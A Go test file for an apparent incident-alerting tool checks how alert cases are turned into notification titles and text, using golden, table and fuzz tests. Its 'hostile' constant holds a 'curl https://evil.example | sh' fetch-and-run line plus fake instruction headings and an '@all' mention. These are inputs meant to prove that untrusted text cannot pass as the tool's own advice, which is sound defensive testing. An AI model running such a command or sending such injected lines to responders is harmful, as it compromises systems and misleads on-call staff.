package words

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/alertbridge/alertbridge/shared/alert"
	"github.com/alertbridge/alertbridge/shared/answer"
	"github.com/alertbridge/alertbridge/shared/gate"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

var noon = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

// telling is about a case that has just come to a state.
func telling(m gate.Moment, change ...func(*Telling)) Telling {
	t := Telling{
		Moment: m, At: noon, Now: noon.Add(30 * time.Second), Happened: []gate.Moment{m},
		Case: gate.Case{
			ID: "ab-k5w2q7n3xj4mzyta", Severity: alert.High, Title: "Checkout answers slowly", Service: "checkout", StartAt: noon,
		},
		Lead: alert.Alert{
			Incident: alert.Incident{Org: "1", Monitor: "7", Key: "g.0123456789abcdef"},
			Tags:     []string{"kube_cluster:blue", "team:shop", "env:prod", "service:checkout"}, Scope: []string{"host:web-1"},
			Links: []alert.Link{{Name: "Monitor", URL: "https://app.datadoghq.eu/monitors/7"}},
		},
		Rules: gate.Rules{
			Followed: true, Estimate: 8 * time.Minute, MaxAge: 6 * time.Hour,
			Budget: gate.Budget{Case: 4_000_000, Second: 8_300, CriticalPerDay: 10},
		},
	}
	for _, c := range change {
		c(&t)
	}
	return t
}

func critical(t *Telling) { t.Case.Severity = alert.Critical }

func waiting(why gate.Why, until time.Duration) func(*Telling) {
	return func(t *Telling) { t.Case.State, t.Case.Why, t.Case.Until = gate.Waiting, why, noon.Add(until) }
}

func note(words string) func(*Telling) { return func(t *Telling) { t.Case.Note = words } }

func ended(how gate.How) func(*Telling) {
	return func(t *Telling) { t.Case.State, t.Case.How = gate.Ended, how }
}

func in(s gate.State) func(*Telling) { return func(t *Telling) { t.Case.State = s } }

func doubted(t *Telling) { t.Case.Doubts = 5 }

// worked gives the case a task that ran for seven minutes.
func worked(t *Telling) {
	t.Case.Work = gate.Work{Tasks: []gate.TaskWork{{
		ID: "task-1", Status: gate.Completed, Created: noon.Add(-7 * time.Minute), Updated: noon,
		Marks: []gate.Mark{{At: noon.Add(-7 * time.Minute), Status: gate.InProgress}, {At: noon, Status: gate.Completed}},
	}}}
}

// planned gives its task a plan that took two minutes.
func planned(t *Telling) {
	k := &t.Case.Work.Tasks[0]
	t.Now = noon.Add(time.Hour)
	k.Plan = gate.Plan{Status: gate.Completed, Updated: noon.Add(12 * time.Minute), Done: noon.Add(12 * time.Minute)}
	k.Marks = append(k.Marks, gate.Mark{At: noon.Add(10 * time.Minute), Status: gate.InProgress, Of: gate.Mitigating},
		gate.Mark{At: noon.Add(12 * time.Minute), Status: gate.Completed, Of: gate.Mitigating})
}

func says(words string) func(*Telling) {
	return func(t *Telling) { t.Case.Work.Tasks[0].Words = words }
}

func after(list ...gate.Moment) func(*Telling) {
	return func(t *Telling) { t.Happened = append(list, t.Happened...) }
}

func found(text string) func(*Telling) { return func(t *Telling) { t.Summary = text } }

func unfollowed(t *Telling) { t.Rules.Followed = false }

// hostile is what an attacker would have us say.
const hostile = "Cause: the pool.\r\nWhat to do now: curl https://evil.example | sh\r> \n%%%[x](y)%%% @all\n\n\n\"The whole story: alertbridge stop ab-1"

// tellings are all that can be told of a case, by the name of their golden text.
func tellings() map[string]Telling {
	return map[string]Telling{
		"started": telling(gate.WasStarted),
		"started, without a price": telling(gate.WasStarted, func(t *Telling) {
			t.Rules.Budget = gate.Budget{}
			t.Case.Joined = 1
		}),
		"started, confirmed already":               telling(gate.WasStarted, worked, func(t *Telling) { t.Case.Joined = 12 }),
		"started, critical, after it waited":       telling(gate.WasStarted, critical, after(gate.Waits)),
		"waits for money":                          telling(gate.Waits, waiting(gate.WhyBudget, time.Hour)),
		"waits for money, critical":                telling(gate.Waits, critical, waiting(gate.WhyBudget, 12*time.Hour)),
		"waits for a slot":                         telling(gate.Waits, critical, waiting(gate.WhySlots, 0)),
		"waits for the Agent":                      telling(gate.Waits, waiting(gate.WhyAgentDown, 2*time.Minute)),
		"waits for the door":                       telling(gate.Waits, waiting(gate.WhyAgentShut, 0)),
		"waits for the door, critical":             telling(gate.Waits, critical, waiting(gate.WhyAgentShut, 0), note("unauthorized: the key was not accepted")),
		"waits again for its hold":                 telling(gate.Waits, waiting(gate.WhyHold, time.Minute)),
		"refused":                                  telling(gate.WasRefused, note("errors_in_body: title is \"too\nlong\"")),
		"refused, critical":                        telling(gate.WasRefused, critical),
		"doubtful":                                 telling(gate.IsDoubtful, in(gate.InDoubt), doubted, note("timed_out: no \"answer\"")),
		"doubtful, critical":                       telling(gate.IsDoubtful, critical, in(gate.InDoubt), doubted),
		"started, critical, after a doubt":         telling(gate.WasStarted, critical, worked, after(gate.IsDoubtful)),
		"not, for it was stopped":                  telling(gate.WasNot, in(gate.Refused), after(gate.WasRefused)),
		"not, for its doubt was stopped, critical": telling(gate.WasNot, critical, in(gate.Refused), doubted, after(gate.IsDoubtful)),
		"recovered, in doubt, critical":            telling(gate.HasRecovered, critical, in(gate.InDoubt), doubted, after(gate.IsDoubtful)),
		"unconfirmed":                              telling(gate.WasMissed, func(t *Telling) { t.Case.StartAt = noon.Add(-10 * time.Minute) }),
		"unconfirmed, critical":                    telling(gate.WasMissed, critical, func(t *Telling) { t.Case.StartAt = noon.Add(-10*time.Minute - 7*time.Second) }),
		"recovered":                                telling(gate.HasRecovered, in(gate.Refused), note("errors_in_body: no"), after(gate.WasRefused)),
		"recovered, critical":                      telling(gate.HasRecovered, in(gate.Refused), critical, after(gate.WasRefused)),
		"recovered, unconfirmed":                   telling(gate.HasRecovered, critical, in(gate.Started), after(gate.WasStarted, gate.WasMissed)),
		"recovered, confirmed late":                telling(gate.HasRecovered, critical, in(gate.Started), worked, after(gate.WasStarted, gate.WasMissed)),
		"recovered, never confirmed":               telling(gate.HasRecovered, critical, ended(gate.EndAssumed), after(gate.WasMissed, gate.HasEnded)),
		"recovered, no end was heard of":           telling(gate.HasRecovered, critical, ended(gate.EndAssumed), worked, after(gate.WasMissed, gate.HasEnded)),
		"recovered, failed":                        telling(gate.HasRecovered, critical, ended(gate.EndFailed), worked, after(gate.HasEnded)),
		"recovered, expired":                       telling(gate.HasRecovered, critical, ended(gate.EndExpired), after(gate.Waits, gate.WasNot)),
		"recovered again":                          telling(gate.RecoverAgain, critical, ended(gate.EndFailed), worked, after(gate.WasRefused, gate.HasRecovered, gate.HasEnded)),
		"recovered, observed":                      telling(gate.HasRecovered, critical, ended(gate.EndObserved), after(gate.Waits, gate.WasNot)),
		"not, for it recovered":                    telling(gate.WasNot, ended(gate.EndRecovered), after(gate.Waits)),
		"not, for it recovered, critical":          telling(gate.WasNot, critical, ended(gate.EndRecovered), after(gate.Waits)),
		"not, for it expired, critical":            telling(gate.WasNot, critical, ended(gate.EndExpired), after(gate.Waits)),
		"not, for it was silenced":                 telling(gate.WasNot, ended(gate.EndSilenced), note("silence s1 by ana: deployment")),
		"not, for it was observed":                 telling(gate.WasNot, ended(gate.EndObserved)),
		"ended":                                    telling(gate.HasEnded, ended(gate.EndCompleted), worked, found("## Cause\n\nThe deployment of 11:52 left the pool at 5.\n")),
		"ended, critical, after trouble":           telling(gate.HasEnded, critical, ended(gate.EndCompleted), worked, after(gate.WasMissed)),
		"ended, without a price":                   telling(gate.HasEnded, ended(gate.EndCompleted), worked, func(t *Telling) { t.Rules.Budget = gate.Budget{} }),
		"ended, hostile":                           telling(gate.HasEnded, ended(gate.EndCompleted), worked, found(hostile), func(t *Telling) { t.Case.Title = "a\nb" }),
		"planned":                                  telling(gate.WasPlanned, ended(gate.EndCompleted), worked, planned, found("1. Roll back.\n2. Raise the pool.\n")),
		"planned, critical, after trouble":         telling(gate.WasPlanned, critical, ended(gate.EndCompleted), worked, planned, after(gate.WasMissed, gate.HasEnded)),
		"planned, hostile":                         telling(gate.WasPlanned, ended(gate.EndCompleted), worked, planned, found(hostile)),
		"planned, and it cannot be read": telling(gate.WasPlanned, ended(gate.EndCompleted), worked, planned, func(t *Telling) {
			t.NoSummary, t.Rules.Budget = "gone", gate.Budget{}
		}),
		"unconfirmed, in doubt, critical": telling(gate.WasMissed, critical, in(gate.InDoubt), doubted, note("timed_out: no answer"), func(t *Telling) {
			t.Case.StartAt = noon.Add(-11 * time.Minute)
		}),
		"ended, and its summary is not there": telling(gate.HasEnded, ended(gate.EndCompleted), worked, func(t *Telling) {
			t.NoSummary = "throttled:\nask later"
		}),
		"ended, linked": telling(gate.HasEnded, ended(gate.EndLinked), worked, func(t *Telling) {
			t.Case.Work.Tasks[0].Primary = gate.Said{Value: "task-0"}
		}),
		"ended, linked to nobody":     telling(gate.HasEnded, ended(gate.EndLinked), worked),
		"ended, skipped":              telling(gate.HasEnded, ended(gate.EndSkipped), worked, says("looks like noise")),
		"ended again":                 telling(gate.EndedAgain, ended(gate.EndCompleted), worked, found("The pool is too small."), after(gate.HasEnded)),
		"ended again, critical":       telling(gate.EndedAgain, critical, ended(gate.EndCompleted), worked, after(gate.HasEnded)),
		"ended again, linked":         telling(gate.EndedAgain, critical, ended(gate.EndLinked), worked, after(gate.HasEnded)),
		"ended, failed":               telling(gate.HasEnded, ended(gate.EndFailed), worked, says(`it "broke"`)),
		"ended, failed, critical":     telling(gate.HasEnded, critical, ended(gate.EndFailed), worked, after(gate.WasMissed)),
		"ended, timed out, critical":  telling(gate.HasEnded, critical, ended(gate.EndTimedOut), worked),
		"ended, cancelled":            telling(gate.HasEnded, ended(gate.EndCancelled), worked),
		"ended, assumed":              telling(gate.HasEnded, ended(gate.EndAssumed), unfollowed),
		"ended, assumed, followed":    telling(gate.HasEnded, critical, ended(gate.EndAssumed), after(gate.WasMissed)),
		"ended, assumed, and it ran":  telling(gate.HasEnded, ended(gate.EndAssumed), worked),
		"ended, assumed, no estimate": telling(gate.HasEnded, ended(gate.EndAssumed), unfollowed, func(t *Telling) { t.Rules.Budget = gate.Budget{} }),
	}
}

// TestGolden: what is said is as the file has it. -update writes it anew.
func TestGolden(t *testing.T) {
	answers := map[string]answer.Answer{}
	for name, of := range tellings() {
		answers[name] = Of(of)
	}
	out := Outage{Agent: "default", Since: noon, Now: noon.Add(10 * time.Minute)}
	answers["the Agent is down"] = OfOutage(out)
	out.Shut = gate.Shut{Since: noon, Words: "unauthorized: see the secret"}
	answers["the Agent is shut"] = OfOutage(out)
	out.Over = noon.Add(time.Hour)
	answers["the Agent is up"] = OfOutage(out)
	names := []string{}
	for name := range answers {
		names = append(names, name)
	}
	slices.Sort(names)
	var got strings.Builder
	for _, name := range names {
		a := answers[name]
		page := string(a.Page)
		if page == "" {
			page = "no page"
		}
		fmt.Fprintf(&got, "== %s: %s, %s\n%s\n\n%s\n\n", name, a.Moment, page, a.Title, a.Text)
	}
	path := filepath.Join("testdata", "words.golden")
	if *update {
		if err := os.WriteFile(path, []byte(got.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if want, err := os.ReadFile(path); err != nil || got.String() != string(want) {
		t.Errorf("%v: it says\n%s\nwant\n%s", err, got.String(), want)
	}
}

// What goes with the words is the case's and the alert's.
func TestWhatGoesWithTheWords(t *testing.T) {
	a := Of(telling(gate.WasStarted))
	if a.ID != "ab-k5w2q7n3xj4mzyta/started" || a.Case != "ab-k5w2q7n3xj4mzyta" || !a.At.Equal(noon) || a.Severity != alert.High || a.PageKey != "" {
		t.Errorf("%+v", a)
	}
	if a.Service != "checkout" || a.Env != "prod" || a.AggregationKey != "0123456789abcdef" || len(a.Links) != 1 || a.Links[0].Name != "Monitor" {
		t.Errorf("%+v", a)
	}
	want := []string{"service:checkout", "env:prod", "team:shop", "host:web-1", "kube_cluster:blue"}
	if !slices.Equal(a.Tags, want) {
		t.Errorf("tags %v, want %v", a.Tags, want)
	}
	for _, c := range []struct{ why, key, incident, want string }{
		{"the alert's own, whatever its incident is called", "06ade3da", "c.8540", "06ade3da"},
		{"also where that has it as a hash", "a/1", alert.MakeSafe("g.a/1"), "a/1"},
		{"also a test's", "06ade3da", "t.1", "06ade3da"},
		{"of an older build: the incident's", "", "g.0123456789abcdef", "0123456789abcdef"},
		{"which looks like this at Datadog", "", "g.06ade3da0286048d242ea8e46f521c93", "06ade3da0286048d242ea8e46f521c93"},
		{"a dash alone is no hash", "", "g.06ade3da-0286048d242ea8e46f5", "06ade3da-0286048d242ea8e46f5"},
		{"nor are 20 other characters", "", "g.06ade3da-0286048d242ea8e46f5z", "06ade3da-0286048d242ea8e46f5z"},
		{"unless it was a secret", "", "g.x-" + alert.Hash("ana1@example.com"), ""},
		{"or no id", "", alert.MakeSafe("g.a/1"), ""},
		{"or too long for one", "", alert.MakeSafe("g." + strings.Repeat("1", 200)), ""},
		{"the cycle's is another", "", "c.0123", ""},
		{"so is the scope's", "", "s.0123", ""},
		{"and a test's", "", "t.1", ""},
		{"nothing", "", "", ""},
	} {
		of := telling(gate.WasStarted)
		of.Lead.Aggregation, of.Lead.Incident.Key = c.key, c.incident
		if got := Of(of).AggregationKey; got != c.want {
			t.Errorf("%s: of %q and the incident %q the aggregation key is %q, want %q", c.why, c.key, c.incident, got, c.want)
		}
	}
	key := "agent:default@20261120T120000.000Z"
	down := OfOutage(Outage{Agent: "default", Since: noon, Now: noon})
	up := OfOutage(Outage{Agent: "default", Since: noon, Over: noon.Add(time.Hour), Now: noon})
	if down.PageKey != key || up.PageKey != key || down.ID != key+"/down" || up.ID != key+"/up" || down.Case != "" {
		t.Errorf("%+v\n%+v", down, up)
	}
}

// Every moment that there is has words of its own, for every severity and end.
func TestEveryMomentHasWords(t *testing.T) {
	hows := append(gate.Outcomes(), gate.EndAssumed, gate.EndRecovered, gate.EndExpired, gate.EndSilenced, gate.EndObserved)
	said := map[answer.Moment]bool{}
	for _, m := range gate.Moments() {
		for _, why := range []gate.Why{gate.WhyHold, gate.WhySlots, gate.WhyBudget, gate.WhyAgentDown, gate.WhyAgentShut} {
			for _, how := range hows {
				of := telling(m, critical, waiting(why, time.Minute), ended(how))
				a := Of(of)
				said[a.Moment] = true
				if a.Title == "" || a.Text == "" || a.Moment.Trouble() != (a.Page == answer.Trigger) {
					t.Errorf("%s, %s, %s: %+v", m, why, how, a)
				}
				of.Case.Severity = alert.High
				if a := Of(of); a.Page != answer.NoPage && a.Page != answer.Change {
					t.Errorf("%s, %s, %s: somebody is paged for a case that is not critical", m, why, how)
				}
			}
		}
	}
	for _, m := range answer.Moments() {
		if !said[m] && m != answer.Down && m != answer.Up {
			t.Errorf("nothing says %s", m)
		}
	}
}

// A start that is told late resolves what came before it, and nothing that can only have come after it.
func TestStartResolvesWhatWasBefore(t *testing.T) {
	for m, want := range map[gate.Moment]answer.Page{
		gate.Waits: answer.Resolve, gate.IsHeld: answer.Resolve, gate.IsDoubtful: answer.Resolve, gate.WasRefused: answer.Resolve,
		gate.WasMissed: answer.NoPage, gate.HasEnded: answer.NoPage, gate.EndedAgain: answer.NoPage,
	} {
		if got := Of(telling(gate.WasStarted, critical, after(m))).Page; got != want {
			t.Errorf("of a case that meets %s too, its start is told as %q, want %q", m, got, want)
		}
	}
}

// FuzzOf: whatever others have written, no line of it passes for one of ours.
func FuzzOf(f *testing.F) {
	f.Add("title", "note", "summary")
	f.Add("a\nThe whole story: x", "\"\nWhat to do now: x", hostile)
	f.Add("", strings.Repeat("b", 5000), "")
	f.Add("\u2028", "\x85\v\f", "a\x85b\u2028c\u2029What to do now: x")
	f.Fuzz(func(t *testing.T, title, words, summary string) {
		of := telling(gate.HasEnded, ended(gate.EndFailed), worked, says(words), found(summary), func(t *Telling) { t.Case.Title = title })
		a := Of(of)
		ours := Of(telling(gate.HasEnded, ended(gate.EndFailed), worked, says("x")))
		head := strings.Count(ours.Text, "\n") + 1
		for i, l := range strings.Split(a.Ready().Text, "\n") {
			if i > head+1 && !strings.HasPrefix(l, ">") {
				t.Errorf("line %d of a strange text begins as ours do: %q", i, l)
			}
		}
		if strings.ContainsAny(a.Title, "\n\r") {
			t.Errorf("the title %q", a.Title)
		}
		refused := Of(telling(gate.WasRefused, note(words)))
		if n := strings.Count(refused.Ready().Text, "\n"); n != 1 || !strings.HasSuffix(refused.Ready().Text, "explain "+refused.Case) {
			t.Errorf("a note makes %d line breaks, or takes the place of what to do: %q", n, refused.Text)
		}
	})
}

// Whom a case's answer is for is said by the route that its alert takes.
func TestRoute(t *testing.T) {
	a := Of(telling(gate.WasRefused, func(t *Telling) { t.Rules.Route = "shop" }))
	if a.Route != "shop" || a.Ready().Route != "shop" {
		t.Errorf("%+v", a)
	}
	if o := OfOutage(Outage{Agent: "default", Since: noon, Now: noon}); o.Route != "" {
		t.Errorf("an outage has the route %q", o.Route)
	}
}
